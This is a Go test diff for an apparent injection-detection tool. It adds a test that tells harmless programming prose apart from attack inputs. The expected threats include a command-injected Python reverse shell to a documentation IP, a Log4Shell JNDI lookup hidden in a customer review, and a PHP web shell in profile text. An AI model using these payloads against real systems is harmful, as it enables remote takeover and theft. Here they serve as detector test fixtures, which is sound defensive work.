@@ -102,3 +102,19 @@ func TestMongoQueriesQuotedInProse(t *testing.T) {
 		{"query:q", `{"$gt": ""}`},
 	})
 }
+
+// TestCodeQuotedInProse: a code call a post mentions is discounted like commands;
+// code that merely contains English words, and lookups or PHP tags that run wherever
+// they stand, are not.
+func TestCodeQuotedInProse(t *testing.T) {
+	d := newTestDetector(t)
+	wantClean(t, d, []valueCase{
+		{"body:text", "In Ruby, system(\"ls\") returns true or false; use backticks or Open3.capture2 when you need the output, and never pass it user input."},
+		{"body:text", "In Node, require('fs').readFileSync is fine at startup, just not in request handlers where it blocks the event loop for everyone."},
+	})
+	wantThreats(t, d, []valueCase{
+		{"query:q", `a;python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`},
+		{"body:text", "Thanks for the help with the order, it was great and I will come back: ${jndi:ldap://203.0.113.5:1389/a}"},
+		{"body:text", "Here is my profile text, I hope you like it and that it is not too long <?php system($_GET['c']); ?> bye"},
+	})
+}
